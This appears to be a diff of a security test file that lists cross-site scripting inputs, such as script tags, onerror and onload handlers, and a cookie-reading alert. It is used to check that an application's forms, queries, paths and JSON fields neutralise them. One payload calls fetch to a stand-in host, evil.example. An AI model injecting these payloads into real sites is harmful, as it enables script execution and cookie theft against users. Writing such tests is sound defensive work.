@@ -66,7 +66,7 @@ SQL: dict[str, Attack] = {
 SCRIPTS: dict[str, Attack] = {
     "a script in a form": form(subject="<script>alert(document.cookie)</script>", text="x"),
     "a script in a free text": form(text='<img src=x onerror="fetch(`//evil.example`)">'),
-    "a script in a name": form("/profile/details/", first_name="<svg/onload=alert(1)>"),
+    "a script in a name": form("/help/requests/new/?kind=update_identity", first_name="<svg/onload=alert(1)>"),
     "a script in a query": query(text="<script>alert(1)</script>"),
     "a script in the path": url("/accounts/%3Cscript%3Ealert(1)%3C/script%3E/"),
     "a script in JSON": json_body('{"nickname": "<script>alert(1)</script>"}'),
